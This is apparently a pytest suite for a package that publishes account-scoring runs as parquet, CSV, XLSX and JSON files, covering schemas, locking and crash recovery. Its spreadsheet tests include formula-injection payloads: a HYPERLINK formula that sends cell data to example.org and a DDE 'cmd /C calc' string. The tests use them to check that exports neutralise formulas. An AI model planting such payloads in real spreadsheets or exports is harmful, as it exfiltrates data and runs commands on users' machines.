"""Published runs: their nine files, the lock, the pointer, and what is told when something is wrong."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tierwise.clock import instant
from tierwise.errors import EnvironmentFault, LockHeld, UsageError
from tierwise.publishing import (
    FILES,
    plan_lock,
    publish,
    read_current,
    read_run,
    recover,
    run_files,
    run_id,
    safe_cell,
    verify_run,
)
from tierwise.store import RunRecord, Store

R1, R2, R3 = "20260301-aaaaaaaaaaaaaaaa", "20260401-bbbbbbbbbbbbbbbb", "20260401-cccccccccccccccc"
DAY = pd.Timestamp("2026-03-01")
EVIL = '=HYPERLINK("http://example.org?x="&A1,"open")'
NUMBERS = {"base": -2.0, "fit_log_odds": 0.5, "signal_log_odds": -0.25, "calibration_log_odds": 0.0, "propensity": 0.2}


def frames() -> dict[str, pd.DataFrame]:
    """A small run: one account scored, one out of the cohort; every text column as awkward as it may be."""
    ids = ["a1", "ä2"]
    scores = pd.DataFrame({"account_id": ids, "as_of": DAY} | {n: [v, np.nan] for n, v in NUMBERS.items()})
    scores = scores.assign(account_score=[80.0, np.nan], fit_score=[70, 10], signal_score=[50.5, np.nan], more=1)
    reasons = pd.DataFrame(
        {
            "account_id": "a1",
            "as_of": DAY,
            "side": ["signal", "fit", "fit"],
            "family": ["website", "industry", "employee count"],
            "feature": ["web_30d", "industry", "employee_count"],
            "value": [3.0, "software", 1250.5],
            "value_as_of": [DAY, pd.NaT, pd.NaT],
            "log_odds": [-0.25, 0.4, 0.1],
            "words": ["3 web activities in the last 30 days", "industry software", "1250.5 employees"],
            "proven": ["part", "family", ""],
            "told": ["website: 3 activities in 30 days", "industry: software", ""],
        }
    )
    tiers = pd.DataFrame({"account_id": ids, "as_of": DAY, "fit_score": [70.0, 10.0], "signal_score": [50.5, np.nan]})
    tiers = tiers.assign(
        propensity=[0.2, np.nan],
        expected_value=np.nan,
        expected_value_low=np.nan,
        expected_value_high=np.nan,
        roles_reached=["champion;exec_buyer", None],
        tier=["tier_2", "customer"],
        previous_tier=None,
        tier_since=[DAY, pd.NaT],
        movement=["entered", ""],
        decided_by=["growth_signal", "status"],
        guardrails=None,
        why=[EVIL, "-1 as it were"],
        model_version="m1",
        policy_version="v1",
        run_id=R1,
        **{f"reason_{n}": [f"+{n} things", None] for n in range(1, 6)},
    )
    movements = tiers[tiers["movement"] != ""].assign(cause="data")
    return {"scores": scores, "reasons": reasons, "tiers": tiers, "movements": movements}


def made(run: str = R1, **more: Any) -> dict[str, bytes]:
    given = {"actions_jsonl": b'{"action_id": "x"}\n', "report_html": "<p>\u00e4</p>"}
    meta = {"run_id": run, "plan": "p", "as_of": instant("2026-03-01"), "versions": {"model": "m1"}}
    return run_files(**(frames() | given | {"run_json": meta} | more))


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with Store.open(f"sqlite:///{tmp_path}/a.db") as opened:
        yield opened


def committing(store: Store, run: str = R1, kind: str = "scheduled") -> Any:
    day = instant(f"{run[:4]}-{run[4:6]}-{run[6:8]}")
    record = RunRecord(run, "p", day, kind, "m1", "v1", "i", "s")  # type: ignore[arg-type]
    state = pd.DataFrame({"account_id": ["a1"], "tier": ["tier_2"]})
    moves = pd.DataFrame(columns=["account_id", "previous_tier", "tier", "movement", "cause"])
    return lambda: store.commit_run(record, state, moves, pd.DataFrame(columns=["action_id", "account_id"]))


# -- files


def test_the_nine_files_and_their_columns() -> None:
    """The golden columns of DESIGN section 9."""
    files = made()
    assert tuple(files) == FILES
    assert len(FILES) == 9
    columns = {n: pq.read_schema(io.BytesIO(files[f"{n}.parquet"])) for n in frames()}
    assert columns["scores"].names == [
        *("account_id", "as_of", "base", "fit_log_odds", "signal_log_odds", "calibration_log_odds", "propensity"),
        *("account_score", "fit_score", "signal_score"),
    ]
    assert columns["reasons"].names == [
        *("account_id", "as_of", "side", "family", "feature", "value", "value_as_of", "log_odds", "words", "proven"),
        "told",
    ]
    assert columns["tiers"].names == [
        *("account_id", "as_of", "fit_score", "signal_score", "propensity", "expected_value", "expected_value_low"),
        *("expected_value_high", "roles_reached", "tier"),
        *("previous_tier", "tier_since", "movement", "decided_by", "guardrails", "why", "reason_1", "reason_2"),
        *("reason_3", "reason_4", "reason_5", "model_version", "policy_version", "run_id"),
    ]
    assert columns["movements"].names[:6] == ["account_id", "as_of", "previous_tier", "tier", "movement", "cause"]
    for schema in columns.values():
        assert schema.metadata is None
        assert {str(field.type) for field in schema} <= {"string", "double", "timestamp[us]"}
    assert str(columns["tiers"].field("expected_value").type) == "double"
    assert str(columns["tiers"].field("guardrails").type) == "string"


def test_empty_frames_keep_their_types() -> None:
    empty = {name: frame.iloc[:0] for name, frame in frames().items()}
    files = made(**empty)
    assert str(pq.read_schema(io.BytesIO(files["movements.parquet"])).field("as_of").type) == "timestamp[us]"
    assert openpyxl.load_workbook(io.BytesIO(files["accounts.xlsx"])).active.max_row == 1


def test_bytes_depend_on_values_alone() -> None:
    first = made()
    shuffled = {name: frame.iloc[::-1] for name, frame in frames().items()}
    retyped = {"movements": frames()["movements"].astype(object), "report_html": "<p>\u00e4</p>"}
    time.sleep(2.1)  # a clock in a zip entry counts by two seconds
    assert made(**shuffled) == first
    assert made(**retyped) == first
    code = (
        "import hashlib, importlib.util as u, sys; s = u.spec_from_file_location('t', sys.argv[1]); "
        "m = u.module_from_spec(s); sys.modules['t'] = m; s.loader.exec_module(m); "
        "print(hashlib.sha256(b''.join(m.made().values())).hexdigest())"
    )
    env = os.environ | {"TZ": "Asia/Tokyo", "PYTHONHASHSEED": "3", "LC_ALL": "C"}
    other = subprocess.run([sys.executable, "-c", code, __file__], env=env, capture_output=True, text=True, timeout=60)
    import hashlib

    assert other.stdout.strip() == hashlib.sha256(b"".join(first.values())).hexdigest(), other.stderr
    with zipfile.ZipFile(io.BytesIO(first["accounts.xlsx"])) as book:
        assert {entry.date_time for entry in book.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_reasons_are_text_and_ordered_by_weight() -> None:
    table = pq.read_table(io.BytesIO(made()["reasons.parquet"])).to_pydict()
    assert table["feature"] == ["industry", "web_30d", "employee_count"]
    assert table["value"] == ["software", "3", "1250.5"]


def test_run_json_tells_hashes_counts_and_versions() -> None:
    files = made()
    meta = json.loads(files["run.json"])
    assert set(meta["files"]) == set(FILES) - {"run.json"}
    assert meta["files"]["tiers.parquet"]["rows"] == 2
    assert meta["files"]["actions.jsonl"] == {
        "sha256": __import__("hashlib").sha256(files["actions.jsonl"]).hexdigest(),
        "bytes": len(files["actions.jsonl"]),
        "rows": 1,
    }
    assert meta["as_of"] == "2026-03-01T00:00:00Z"
    assert meta["versions"] == {"model": "m1"}


def test_a_frame_that_lacks_a_column_or_has_another_type_is_refused_by_name() -> None:
    with pytest.raises(UsageError, match=r"scores\.parquet was made: the frame has no column base, propensity"):
        made(scores=frames()["scores"].drop(columns=["base", "propensity"]))
    with pytest.raises(UsageError, match="column propensity is not double"):
        made(scores=frames()["scores"].assign(propensity="high"))
    with pytest.raises(UsageError, match="column tier is not string"):
        made(tiers=frames()["tiers"].assign(tier=1))
    with pytest.raises(UsageError, match=r"run\.json was made: without run_id"):
        made(run_json={"plan": "p", "as_of": "2026-03-01"})


# -- spreadsheets

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", " =", "\u00a0+")


@pytest.mark.parametrize("start", STARTS)
def test_no_text_starts_a_formula(start: str) -> None:
    assert safe_cell(start + "1+1") == "'" + start + "1+1"
    sheet = frames()["tiers"].assign(why=start + "cmd|' /C calc'!A0", name=start)
    row = list(csv.reader(io.StringIO(made(sheet=sheet)["accounts.csv"].decode("utf-8-sig"), newline="")))[1]
    assert row[sheet.columns.get_loc("why")] == "'" + start + "cmd|' /C calc'!A0"
    assert row[sheet.columns.get_loc("name")][0] == "'"


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="=+-@\t\r\n ;,\"'aä1\u00a0", max_size=8))
def test_no_reading_of_the_csv_shows_a_formula(text: str) -> None:
    """Whatever a text holds, no cell starts a formula: in a locale that splits at commas, or at semicolons."""
    content = run_csv(text)
    for separator in ",;":
        for cells in csv.reader(io.StringIO(content, newline=""), delimiter=separator):
            for cell in cells:
                assert cell == "-0.5" or not cell.strip().startswith(("=", "+", "-", "@"))
    (_, row) = csv.reader(io.StringIO(content, newline=""))
    if not any(c in text for c in "=+-@\t\r\n"):
        assert row[1] == text


def run_csv(text: str) -> str:
    from tierwise.publishing.spreadsheets import accounts_csv

    return accounts_csv(pd.DataFrame({"account_id": ["a1"], "text": [text], "score": [-0.5]})).decode("utf-8-sig")


def test_the_csv_is_read_back() -> None:
    content = made()["accounts.csv"]
    assert content.startswith(b"\xef\xbb\xbf")
    read = pd.read_csv(io.BytesIO(content))
    assert read["account_id"].tolist() == ["a1", "ä2"]
    assert read["fit_score"].tolist() == [70.0, 10.0]
    assert read["as_of"].tolist() == ["2026-03-01"] * 2
    assert read["why"].tolist() == ["'" + EVIL, "'-1 as it were"]
    assert read["tier"].tolist() == ["tier_2", "customer"]
    assert read["expected_value"].isna().all()
    numbers = frames()["tiers"].assign(expected_value=[-3.5, 1e-7])
    assert pd.read_csv(io.BytesIO(made(tiers=numbers)["accounts.csv"]))["expected_value"].tolist() == [-3.5, 1e-7]


def test_the_workbook_is_read_back_without_a_formula() -> None:
    book = openpyxl.load_workbook(io.BytesIO(made()["accounts.xlsx"]))
    page = book.active
    rows = [[cell.value for cell in row] for row in page.iter_rows()]
    assert {cell.data_type for row in page.iter_rows() for cell in row} <= {"s", "n", "d", "inlineStr"}
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["why"] == EVIL
    assert first["fit_score"] == 70
    assert first["as_of"] == DAY.to_pydatetime()
    assert first["expected_value"] is None
    assert book.properties.created.year == 2000
    with zipfile.ZipFile(io.BytesIO(made()["accounts.xlsx"])) as archive:
        pages = b"".join(archive.read(n) for n in archive.namelist() if "worksheets/" in n)
        assert b"<f>" not in pages
        assert b"hyperlink" not in pages


# -- ids


def test_a_run_id_hashes_what_decides_the_run() -> None:
    base = ("p", instant("2026-03-01"), "i", "s", "m", "v")
    one = run_id(*base)
    assert one == run_id(*base)
    assert one.startswith("20260301-")
    assert len(one) == 25
    others = [
        run_id(*base[:place], instant("2026-03-02") if place == 1 else "other", *base[place + 1 :])  # type: ignore[arg-type]
        for place in range(6)
    ]
    assert len({one, *others}) == 7
    assert run_id("p", instant("2026-03-01"), "is", "", "m", "v") != run_id(*base[:2], "i", "s", "m", "v")


# -- reading


def test_what_is_published_is_read_back(tmp_path: Path, store: Store) -> None:
    assert publish(tmp_path, "p", R1, made(), committing(store)) is True
    run = read_current(tmp_path, "p")
    assert (run.run_id, run.folder) == (R1, tmp_path / "p" / R1)
    assert (tmp_path / "p" / "CURRENT").read_text() == R1
    tiers = run.frame("tiers")
    assert tiers["tier_since"].dtype == "datetime64[us]"
    assert tiers["tier"].tolist() == ["tier_2", "customer"]
    assert isinstance(tiers.index, pd.RangeIndex)
    assert run.actions() == ({"action_id": "x"},)
    assert run.meta["plan"] == "p"
    assert verify_run(run.folder)["run_id"] == R1
    assert read_run(tmp_path, "p", R1) == run
    with pytest.raises(UsageError, match=r"it holds accounts\.csv, accounts\.xlsx"):
        run.content("secrets")


def test_nothing_published_yet(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"nothing is published under .* Run tierwise score --as-of DATE first"):
        read_current(tmp_path, "p")
    with pytest.raises(UsageError, match="it is not published"):
        read_run(tmp_path, "p", R1)
    with pytest.raises(UsageError, match="was given as a run_id"):
        read_run(tmp_path, "p", "../../etc")


def test_damage_is_named(tmp_path: Path, store: Store) -> None:
    publish(tmp_path, "p", R1, made(), committing(store))
    folder = tmp_path / "p" / R1
    content = bytearray((folder / "tiers.parquet").read_bytes())
    content[40] ^= 1
    (folder / "tiers.parquet").write_bytes(content)
    (folder / "report.html").unlink()
    (folder / "stray.txt").write_text("")
    with pytest.raises(EnvironmentFault) as caught:
        verify_run(folder)
    for words in ("tiers.parquet is not what was", "report.html is missing", "stray.txt does not belong", "backup"):
        assert words in str(caught.value)
    with pytest.raises(EnvironmentFault, match=r"tiers\.parquet is not what was published"):
        read_current(tmp_path, "p").frame("tiers")
    for text in ("{", "[]", '{"files": {"../x": {"sha256": "0"}}, "run_id": "x"}', '{"files": {}, "run_id": "x"}'):
        (folder / "run.json").write_text(text)
        with pytest.raises(EnvironmentFault, match=r"run\.json is "):
            read_current(tmp_path, "p")
    (tmp_path / "p" / "CURRENT").write_text("../../elsewhere")
    with pytest.raises(EnvironmentFault, match="it names no run"):
        read_current(tmp_path, "p")


# -- publishing and recovering


def test_a_backfill_moves_no_pointer(tmp_path: Path, store: Store) -> None:
    publish(tmp_path, "p", R2, made(R2), committing(store, R2))
    publish(tmp_path, "p", R1, made(), committing(store, R1, "backfill"), current=False)
    assert read_current(tmp_path, "p").run_id == R2
    assert read_run(tmp_path, "p", R1).run_id == R1
    assert recover(tmp_path, "p", store) == type(recover(tmp_path, "p", store))()
    assert read_current(tmp_path, "p").run_id == R2


def test_publishing_what_is_in_the_ledger_moves_nothing_back(tmp_path: Path, store: Store) -> None:
    publish(tmp_path, "p", R2, made(R2), committing(store, R2))
    publish(tmp_path, "p", R3, made(R3), committing(store, R3, "revision"))
    assert publish(tmp_path, "p", R2, made(R2), committing(store, R2)) is False
    assert read_current(tmp_path, "p").run_id == R3
    with pytest.raises(UsageError, match="a folder of this run_id is there, with other bytes"):
        publish(tmp_path, "p", R3, made(R3, report_html="other"), committing(store, R3))


def test_a_lost_folder_is_told_and_can_be_published_again(tmp_path: Path, store: Store) -> None:
    import shutil

    publish(tmp_path, "p", R1, made(), committing(store))
    shutil.rmtree(tmp_path / "p" / R1)
    assert recover(tmp_path, "p", store).missing == (R1,)
    publish(tmp_path, "p", R1, made(), committing(store))
    assert verify_run(read_current(tmp_path, "p").folder)
    shutil.rmtree(tmp_path / "p")
    assert recover(tmp_path, "p", store).missing == (R1,)
    publish(tmp_path, "p", R1, made(), committing(store))
    assert recover(tmp_path, "p", store).finished == (R1,)
    assert read_current(tmp_path, "p").run_id == R1


def test_a_store_that_does_not_know_current_is_not_gone_on_from(tmp_path: Path, store: Store) -> None:
    publish(tmp_path, "p", R1, made(), committing(store))
    with (
        Store.open(f"sqlite:///{tmp_path}/other.db") as other,
        pytest.raises(EnvironmentFault, match=f"CURRENT names run {R1}, and the store does not know it"),
    ):
        recover(tmp_path, "p", other)
    assert read_current(tmp_path, "p").run_id == R1


def test_a_failed_transaction_leaves_the_last_run(tmp_path: Path, store: Store) -> None:
    publish(tmp_path, "p", R1, made(), committing(store))

    def fails() -> bool:
        raise EnvironmentFault("the run was committed", found="the database refused")

    with pytest.raises(EnvironmentFault, match="the database refused"):
        publish(tmp_path, "p", R2, made(R2), fails)
    assert read_current(tmp_path, "p").run_id == R1
    with pytest.raises(UsageError):
        read_run(tmp_path, "p", R2)
    assert recover(tmp_path, "p", store).discarded == (R2,)
    assert not list((tmp_path / "p").glob(".staging*"))


def test_a_transaction_that_failed_only_in_its_answer_is_finished(tmp_path: Path, store: Store) -> None:
    def fails() -> bool:
        committing(store)()
        raise EnvironmentFault("the run was committed", found="the connection fell")

    with pytest.raises(EnvironmentFault):
        publish(tmp_path, "p", R1, made(), fails)
    with pytest.raises(UsageError):
        read_current(tmp_path, "p")
    assert recover(tmp_path, "p", store).finished == (R1,)
    assert read_current(tmp_path, "p").run_id == R1


def test_a_folder_that_the_ledger_does_not_know_is_discarded_and_others_are_left(tmp_path: Path, store: Store) -> None:
    publish(tmp_path, "p", R1, made(), committing(store))
    (tmp_path / "p" / R2).mkdir()
    (tmp_path / "p" / ".discard-20260401-cccccccccccccccc").mkdir()
    (tmp_path / "p" / ".CURRENT-next").write_text("2026")
    (tmp_path / "p" / "notes").mkdir()
    assert recover(tmp_path, "p", store).discarded == (R2, R3)
    left = sorted(path.name for path in (tmp_path / "p").iterdir())
    assert left == [R1, "CURRENT", "notes"]


def test_everything_is_synced_before_the_transaction(
    tmp_path: Path, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What a power cut would show: bytes and names are on the disk before the ledger says they are."""
    seen: list[str] = []
    sync, rename, replace = os.fsync, os.rename, os.replace

    def name(path: Any) -> str:
        return str(path).replace(str(tmp_path / "p"), "p")

    monkeypatch.setattr(os, "fsync", lambda h: (seen.append(name(os.readlink(f"/proc/self/fd/{h}"))), sync(h))[1])
    monkeypatch.setattr(os, "rename", lambda a, b: (seen.append(f"rename {name(b)}"), rename(a, b))[1])
    monkeypatch.setattr(os, "replace", lambda a, b: (seen.append(f"replace {name(b)}"), replace(a, b))[1])
    commit = committing(store)

    def committed() -> Any:
        seen.append("transaction")
        return commit()

    publish(tmp_path, "p", R1, made(), committed)
    staging = f"p/.staging-{R1}"
    assert seen[1:] == [
        *(f"{staging}/{file}" for file in FILES),
        *(staging, "p", "transaction", f"rename p/{R1}", "p"),
        *("p/.CURRENT-next", "replace p/CURRENT", "p"),
    ]


# -- faults


@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EROFS, errno.EACCES, errno.EIO])
@pytest.mark.parametrize("call", ["write", "fsync", "rename", "replace"])
def test_a_disk_that_refuses_leaves_the_last_run(
    tmp_path: Path, store: Store, monkeypatch: pytest.MonkeyPatch, call: str, code: int
) -> None:
    publish(tmp_path, "p", R1, made(), committing(store))
    files = made(R2)

    def refuses(*_: Any, **__: Any) -> Any:
        raise OSError(code, os.strerror(code))

    with monkeypatch.context() as patch:
        patch.setattr(os, call, refuses)
        with pytest.raises(EnvironmentFault, match=os.strerror(code)) as caught:
            publish(tmp_path, "p", R2, files, committing(store, R2))
    assert caught.value.exit_code == 5
    assert caught.value.do
    assert verify_run(read_current(tmp_path, "p").folder)["run_id"] == R1
    if call in ("write", "fsync"):
        assert sorted(path.name for path in (tmp_path / "p").iterdir()) == [R1, "CURRENT"]
        assert store.find_run(R2) is None
    else:
        assert recover(tmp_path, "p", store).finished == (R2,)
        assert read_current(tmp_path, "p").run_id == R2


def test_a_real_limit_on_file_sizes_is_a_fault(tmp_path: Path) -> None:
    code = (
        "import resource, signal, sys; from pathlib import Path; signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "from tierwise.publishing import publish; from tierwise.errors import EnvironmentFault\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (5000, 5000))\n"
        f"try: publish(Path(sys.argv[1]), 'p', '{R1}', {{'a': b'x' * 4000, 'run.json': b'x' * 9000}}, lambda: None)\n"
        "except EnvironmentFault as e: print(e)"
    )
    done = subprocess.run([sys.executable, "-c", code, str(tmp_path)], capture_output=True, text=True, timeout=60)
    assert "the disk refused: File too large" in done.stdout, done.stderr
    assert list((tmp_path / "p").iterdir()) == []


def test_a_folder_that_is_a_file_is_a_fault(tmp_path: Path) -> None:
    (tmp_path / "p").write_text("")
    with (
        pytest.raises(EnvironmentFault, match=r"Name a folder under published: in tierwise\.yaml"),
        plan_lock(tmp_path, "p"),
    ):
        pass


# -- the lock


def test_the_lock_is_held_once(tmp_path: Path) -> None:
    with plan_lock(tmp_path, "p"):
        with pytest.raises(LockHeld, match=f"process {os.getpid()} holds it") as caught, plan_lock(tmp_path, "p"):
            pass
        with plan_lock(tmp_path, "q"):
            pass
    assert caught.value.exit_code == 4
    with plan_lock(tmp_path, "p"):
        pass


def test_a_killed_holder_lets_go(tmp_path: Path) -> None:
    code = (
        "import sys, time; from pathlib import Path; from tierwise.publishing import plan_lock\n"
        "with plan_lock(Path(sys.argv[1]), 'p'): print('held', flush=True); time.sleep(60)"
    )
    with subprocess.Popen([sys.executable, "-c", code, str(tmp_path)], stdout=subprocess.PIPE, text=True) as holder:
        assert holder.stdout is not None
        assert holder.stdout.readline() == "held\n"
        with pytest.raises(LockHeld, match=f"process {holder.pid} holds it"), plan_lock(tmp_path, "p"):
            pass
        holder.kill()
        holder.wait()
        with plan_lock(tmp_path, "p"):
            pass
